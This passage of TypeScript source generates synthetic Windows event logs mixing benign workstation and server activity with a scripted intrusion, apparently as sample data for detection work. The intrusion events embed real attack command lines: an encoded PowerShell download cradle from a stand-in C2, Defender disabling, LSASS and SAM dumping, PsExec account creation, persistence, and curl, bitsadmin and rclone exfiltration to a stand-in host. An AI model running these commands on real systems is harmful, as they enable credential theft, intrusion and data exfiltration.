  [fin, 2],
  [hr, 4.5],
] as const) {
  ticket(at(m - 0.1), d.user.name, d.host.ip, "krbtgt");
  logonScript(d, m + 0.4);
  morningApps(d, m + 1);
}

// Everyday noise on both workstations over the two hours.
for (const d of [fin, hr]) {
  let m = d === fin ? 6 : 8;
  while (m < 119) {
    background(d, m);
    m += 1.2 + rand() * 2.3;
  }
  oneDriveUpdate(d, d === fin ? 41 : 77);
  defenderUpdate(d, d === fin ? 63 : 22);
  logon(d.host, at(d === fin ? 56 : 93), d.user.name, {
    type: 7,
    ip: "127.0.0.1",
    workstation: d.host.name.split(".")[0] as string,
    targetSid: d.user.sid,
  });
}

// m.keller: a little command-line troubleshooting and a driver package unpacked with 7-Zip.
{
  const cmd = start(at(48), hr.explorer, `${SYS}cmd.exe`, `"${SYS}cmd.exe" `);
  start(at(48.3), cmd, `${SYS}ipconfig.exe`, "ipconfig  /all");
  start(at(48.6), cmd, `${SYS}whoami.exe`, "whoami");
  start(at(49), cmd, `${SYS}net.exe`, "net  use H: \\\\SRV-FILE-01\\HR$ /persistent:yes");
  const zg = start(
    at(66),
    hr.explorer,
    "C:\\Program Files\\7-Zip\\7zG.exe",
    `"C:\\Program Files\\7-Zip\\7zG.exe" x -o"C:\\Users\\m.keller\\Downloads\\dock-driver\\" -an -ai#7zMap2145:48:7zEvent1877`,
  );
  fileCreate(at(66.2), zg, "C:\\Users\\m.keller\\Downloads\\dock-driver\\setup.exe");
}
// j.doe archives last month's reports into their Documents (not a staging folder, no password).
{
  const cmd = start(at(24), fin.explorer, `${SYS}cmd.exe`, `"${SYS}cmd.exe" `);
  const z = start(
    at(24.5),
    cmd,
    "C:\\Program Files\\7-Zip\\7z.exe",
    '"C:\\Program Files\\7-Zip\\7z.exe" a C:\\Users\\j.doe\\Documents\\Archive\\reports_2026-10.7z C:\\Users\\j.doe\\Documents\\Reports\\2026-10\\*.xlsx',
  );
  fileCreate(at(24.6), z, "C:\\Users\\j.doe\\Documents\\Archive\\reports_2026-10.7z");
}

// The file server: share access by users, backups, a scanner, services.
const srvServices = running(SRV, `${SYS}services.exe`, `${SYS}services.exe`, SYSTEM, "0x3e7", "System");
const srvSchedule = running(
  SRV,
  `${SYS}svchost.exe`,
  `${SYS}svchost.exe -k netsvcs -p -s Schedule`,
  SYSTEM,
  "0x3e7",
  "System",
);
for (let m = 3; m < 119; m += 5 + rand() * 7) {
  const who = pick([
    [JDOE, FIN],
    [MKELLER, HR],
  ] as const);
  logon(SRV, at(m), who[0].name, { type: 3, ip: who[1].ip, workstation: "-", targetSid: who[0].sid });
}
for (let m = 10; m < 119; m += 20 + rand() * 10) {
  logon(SRV, at(m), "ANONYMOUS LOGON", {
    type: 3,
    ip: "10.20.7.21",
    workstation: "MFP-2F-01",
    ntlm: true,
    domain: "NT AUTHORITY",
    targetSid: "S-1-5-7",
  });
  logon(SRV, at(m + 0.05), "svc_scan", {
    type: 3,
    ip: "10.20.7.21",
    workstation: "MFP-2F-01",
    ntlm: true,
    keyLength: 128,
  });
}
for (let m = 7; m < 119; m += 9 + rand() * 9) {
  const kind = int(0, 3);
  if (kind === 0)
    start(at(m), srvSchedule, `${SYS}taskhostw.exe`, "taskhostw.exe SYSTEM", {
      user: SYSTEM,
      logonId: "0x3e7",
      integrity: "System",
    });
  else if (kind === 1)
    start(
      at(m),
      srvServices,
      "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Tray.exe",
      '"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Tray.exe" -NoControlPanel',
      {
        user: SYSTEM,
        logonId: "0x3e7",
        integrity: "System",
      },
    );
  else if (kind === 2)
    start(at(m), srvServices, `${SYS}svchost.exe`, `${SYS}svchost.exe -k wsappx -p -s ClipSVC`, {
      user: SYSTEM,
      logonId: "0x3e7",
      integrity: "System",
    });
  else
    start(
      at(m),
      srvSchedule,
      "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MpCmdRun.exe",
      '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25090.3009-0\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
      {
        user: SYSTEM,
        logonId: "0x3e7",
        integrity: "System",
      },
    );
}
serviceInstalled(
  SRV,
  at(36),
  "MicrosoftEdgeUpdate",
  '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /svc',
  "auto start",
);
serviceInstalled(SRV, at(71), "VeeamDeploySvc", "C:\\Windows\\Veeam\\Backup\\VeeamDeploymentSvc.exe", "auto start");

// The domain controller: tickets and logons, and a service with an expired password retrying.
for (let m = 2; m < 119; m += 4 + rand() * 6) {
  const who = pick([
    [JDOE, FIN],
    [MKELLER, HR],
  ] as const);
  ticket(
    at(m),
    who[0].name,
    who[1].ip,
    pick(["cifs/SRV-FILE-01.corp.example", "ldap/DC-01.corp.example", "HTTP/intranet.corp.example"]),
  );
  if (rand() < 0.5)
    logon(DC, at(m + 0.02), who[0].name, { type: 3, ip: who[1].ip, workstation: "-", targetSid: who[0].sid });
}
for (let m = 5; m < 119; m += 15) failedLogon(DC, at(m), "svc_printsync", 3, "10.20.7.40", "PRINT-01");
for (let m = 12; m < 119; m += 25) {
  logon(DC, at(m), "ANONYMOUS LOGON", {
    type: 3,
    ip: "10.20.7.21",
    workstation: "MFP-2F-01",
    ntlm: true,
    domain: "NT AUTHORITY",
    targetSid: "S-1-5-7",
  });
}

// --- the intrusion -------------------------------------------------------------------------

attack = true;
const PS = `${SYS}WindowsPowerShell\\v1.0\\powershell.exe`;
const C2 = "203.0.113.45";
const DROP = "198.51.100.23";
const office = "C:\\Program Files\\Microsoft Office\\root\\Office16";

// 09:01 the phishing attachment is opened from Outlook.
const outlook = fin.outlook as Proc;
const docm =
  "C:\\Users\\j.doe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QX2KJ1M\\Invoice_INV-20931.docm";
fileCreate(at(31.2), outlook, docm);
const word = start(at(31.6), outlook, `${office}\\WINWORD.EXE`, `"${office}\\WINWORD.EXE" /n "${docm}" /o ""`);

// 09:02 the macro starts PowerShell with an encoded download cradle.
const stage1Script = `IEX (New-Object Net.WebClient).DownloadString('http://${C2}/s/upd.ps1')`;
const encoded = Buffer.from(stage1Script, "utf16le").toString("base64");
const ps1 = start(at(32.1), word, PS, `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded}`);
connect(at(32.15), ps1, C2, 80);
start(
  at(32.5),
  ps1,
  PS,
  '"powershell.exe" -NoP -W Hidden -c "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"',
);
const ps3 = start(
  at(33.2),
  ps1,
  PS,
  `"powershell.exe" -NoP -W Hidden -c "iwr http://${C2}/s/pd.bin -OutFile C:\\ProgramData\\Intel\\pd.exe; iwr http://${C2}/s/rc.bin -OutFile C:\\Users\\Public\\Libraries\\rclone.exe; iwr http://${C2}/s/od.bin -OutFile C:\\Users\\Public\\Libraries\\odsync.exe"`,
);
connect(at(33.25), ps3, C2, 80);
fileCreate(at(33.4), ps3, "C:\\ProgramData\\Intel\\pd.exe");
fileCreate(at(33.5), ps3, "C:\\Users\\Public\\Libraries\\rclone.exe");
fileCreate(at(33.6), ps3, "C:\\Users\\Public\\Libraries\\odsync.exe");

// 09:04 the implant runs and calls home.
const implant = start(
  at(34),
  ps1,
  "C:\\Users\\Public\\Libraries\\odsync.exe",
  "C:\\Users\\Public\\Libraries\\odsync.exe -bg",
  {
    integrity: "High",
  },
);
connect(at(34.1), implant, C2, 443);

// 09:06 discovery.
const discovery: readonly [number, string, string][] = [
  [36, "whoami.exe", "whoami  /all"],
  [36.7, "net.exe", 'net  group "domain admins" /domain'],
  [37.5, "nltest.exe", "nltest  /dclist:corp.example"],
  [38.1, "nltest.exe", "nltest  /domain_trusts /all_trusts"],
  [38.8, "net.exe", "net  user /domain"],
  [39.4, "ipconfig.exe", "ipconfig  /all"],
  [40.2, "systeminfo.exe", "systeminfo"],
];
for (const [m, exe, args] of discovery) {
  const cmd = start(at(m), implant, `${SYS}cmd.exe`, `C:\\Windows\\system32\\cmd.exe /C ${args.replace("  ", " ")}`);
  start(at(m + 0.02), cmd, `${SYS}${exe}`, args);
}

// 09:12 password spraying against the domain controller from the workstation.
const sprayUsers = [
  "a.schmidt",
  "b.nguyen",
  "c.rossi",
  "d.okafor",
  "e.larsen",
  "f.moreau",
  "g.tanaka",
  "h.silva",
  "i.kowalski",
  "k.berg",
  "l.martin",
  "administrator",
];
for (const [i, user] of sprayUsers.entries()) failedLogon(DC, at(42 + i * 0.17), user, 3, FIN.ip, "WS-FIN-07");

// 09:18 credential dumping: ProcDump on LSASS, comsvcs MiniDump, SAM and SYSTEM hives.
const pd = start(
  at(48),
  implant,
  "C:\\ProgramData\\Intel\\pd.exe",
  "C:\\ProgramData\\Intel\\pd.exe -accepteula -ma lsass.exe C:\\ProgramData\\Intel\\lsass_0920.dmp",
);
processAccess(
  at(48.02),
  pd,
  fin.lsass,
  "0x1fffff",
  "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\ProgramData\\Intel\\pd.exe+6d2f1",
);
fileCreate(at(48.1), pd, "C:\\ProgramData\\Intel\\lsass_0920.dmp");
const rundll = start(
  at(49.5),
  implant,
  `${SYS}rundll32.exe`,
  `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${fin.lsass.pid} C:\\ProgramData\\Intel\\m.dmp full`,
);
processAccess(
  at(49.52),
  rundll,
  fin.lsass,
  "0x1fffff",
  "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3b1a2",
);
fileCreate(at(49.6), rundll, "C:\\ProgramData\\Intel\\m.dmp");
start(at(51), implant, `${SYS}reg.exe`, "reg  save HKLM\\SAM C:\\ProgramData\\Intel\\s.hiv /y");
start(at(51.2), implant, `${SYS}reg.exe`, "reg  save HKLM\\SYSTEM C:\\ProgramData\\Intel\\y.hiv /y");

// 09:25 the stolen hash of adm.svcbackup is used against the file server; PsExec runs a command.
const psexec = start(
  at(55),
  implant,
  "C:\\ProgramData\\Intel\\PsExec64.exe",
  'C:\\ProgramData\\Intel\\PsExec64.exe -accepteula \\\\10.20.5.10 -s cmd.exe /c "net user svc_bkp2 Bkp!2026-Nov /add /y"',
);
connect(at(55.01), psexec, SRV.ip, 445, SRV.name);
const admLogon = logon(SRV, at(55.02), ADMSVC.name, {
  type: 3,
  ip: FIN.ip,
  workstation: "WS-FIN-07",
  ntlm: true,
  keyLength: 0,
  targetSid: ADMSVC.sid,
});
serviceInstalled(SRV, at(55.05), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "demand start");
const psexesvc = start(at(55.06), srvServices, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", {
  user: SYSTEM,
  logonId: "0x3e7",
  integrity: "System",
});
const remoteCmd = start(at(55.08), psexesvc, `${SYS}cmd.exe`, 'cmd.exe /c "net user svc_bkp2 Bkp!2026-Nov /add /y"');
const netAdd = start(at(55.09), remoteCmd, `${SYS}net.exe`, "net  user svc_bkp2 Bkp!2026-Nov /add /y");
start(at(55.1), netAdd, `${SYS}net1.exe`, "C:\\Windows\\system32\\net1  user svc_bkp2 Bkp!2026-Nov /add /y");
security(SRV, at(55.11), 4720, {
  TargetUserName: "svc_bkp2",
  TargetDomainName: "SRV-FILE-01",
  TargetSid: "S-1-5-21-1840211590-2790035120-3197112418-1009",
  SubjectUserSid: "S-1-5-18",
  SubjectUserName: "SRV-FILE-01$",
  SubjectDomainName: "CORP",
  SubjectLogonId: "0x3e7",
  PrivilegeList: "-",
  SamAccountName: "svc_bkp2",
  DisplayName: "%%1793",
  UserPrincipalName: "-",
  HomeDirectory: "%%1793",
  UserAccountControl: "%%2080 %%2082 %%2084",
  PrimaryGroupId: "513",
});

// 09:32 WMI: archive the finance share on the server itself.
const finCmd = start(
  at(62),
  implant,
  `${SYS}cmd.exe`,
  "C:\\Windows\\system32\\cmd.exe /C wmic.exe /node:10.20.5.10 process call create ...",
);
const archiveCmd =
  "powershell.exe -NoP -c Compress-Archive -Path D:\\Shares\\Finance\\Q4\\* -DestinationPath C:\\Users\\Public\\Documents\\q4fin.zip";
start(at(62.05), finCmd, `${SYS}wbem\\WMIC.exe`, `wmic.exe  /node:10.20.5.10 process call create "${archiveCmd}"`);
const srvWmi = running(
  SRV,
  `${SYS}wbem\\WmiPrvSE.exe`,
  `${SYS}wbem\\wmiprvse.exe -secured -Embedding`,
  SYSTEM,
  "0x3e7",
  "System",
);
start(at(62.1), srvWmi, PS, archiveCmd, { user: ADMSVC, logonId: admLogon, integrity: "High" });

// 09:40 a remote service for persistence on the server.
start(
  at(70),
  implant,
  `${SYS}cmd.exe`,
  "C:\\Windows\\system32\\cmd.exe /C copy C:\\Users\\Public\\Libraries\\odsync.exe \\\\10.20.5.10\\C$\\ProgramData\\Intel\\odsync.exe",
);
start(
  at(70.5),
  implant,
  `${SYS}sc.exe`,
  'sc.exe \\\\10.20.5.10 create WinSyncSvc binPath= "C:\\ProgramData\\Intel\\odsync.exe -svc" start= auto',
);
serviceInstalled(SRV, at(70.52), "WinSyncSvc", "C:\\ProgramData\\Intel\\odsync.exe -svc", "auto start");
start(at(71), srvServices, "C:\\ProgramData\\Intel\\odsync.exe", "C:\\ProgramData\\Intel\\odsync.exe -svc", {
  user: SYSTEM,
  logonId: "0x3e7",
  integrity: "System",
});

// 09:45 persistence on the workstation: Run key and scheduled task.
registrySet(
  at(75),
  implant,
  `HKU\\${JDOE.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync`,
  '"C:\\Users\\Public\\Libraries\\odsync.exe" -bg',
);
start(
  at(76),
  implant,
  `${SYS}schtasks.exe`,
  'schtasks.exe /create /tn "\\Microsoft\\Windows\\OneDrive\\SyncCheck" /tr "C:\\Users\\Public\\Libraries\\odsync.exe -bg" /sc onlogon /rl highest /f',
);

// 10:02 staging: finance documents packed with 7-Zip into the Public profile.
const sevenZip = start(
  at(92),
  implant,
  "C:\\Program Files\\7-Zip\\7z.exe",
  '"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mx=9 -pQ4-Exf1l -mhe=on C:\\Users\\Public\\Music\\fin_q4.7z C:\\Users\\j.doe\\Documents\\Finance\\* \\\\10.20.5.10\\C$\\Users\\Public\\Documents\\q4fin.zip',
);
fileCreate(at(92.8), sevenZip, "C:\\Users\\Public\\Music\\fin_q4.7z");

// 10:08 exfiltration attempts: curl, BITS, then rclone.
const curl = start(
  at(98),
  implant,
  `${SYS}curl.exe`,
  `curl.exe -s -k -T C:\\Users\\Public\\Music\\fin_q4.7z https://${DROP}:8443/u/`,
);
connect(at(98.01), curl, DROP, 8443);
start(
  at(99),
  implant,
  `${SYS}bitsadmin.exe`,
  `bitsadmin.exe /transfer upd /upload /priority foreground https://${DROP}:8443/u/fin_q4.7z C:\\Users\\Public\\Music\\fin_q4.7z`,
);
const rclone = start(
  at(100),
  implant,
  "C:\\Users\\Public\\Libraries\\rclone.exe",
  "C:\\Users\\Public\\Libraries\\rclone.exe copy C:\\Users\\Public\\Music\\ exf:drop --config C:\\Users\\Public\\Libraries\\rc.conf --transfers 4 -q",
);
connect(at(100.05), rclone, DROP, 443);

// 10:15 covering tracks.
start(at(105), implant, `${SYS}wevtutil.exe`, "wevtutil.exe cl Security");
logCleared(FIN, at(105.01), JDOE, fin.logonId);

// --- write ---------------------------------------------------------------------------------

pending.sort((a, b) => a.time - b.time);
const lines = pending.map((p) => JSON.stringify(p.make(p.host.nextRecord++)));
const out = process.argv[2] ?? new URL("../samples/intrusion.ndjson", import.meta.url).pathname;
writeFileSync(out, `${lines.join("\n")}\n`);
const attacks = pending.filter((p) => p.attack).length;
const first = new Date(pending[0]?.time ?? 0).toISOString();
const last = new Date(pending[pending.length - 1]?.time ?? 0).toISOString();
console.log(
  `${out}: ${pending.length} events (${attacks} attack, ${pending.length - attacks} benign), ${first} .. ${last}`,
);
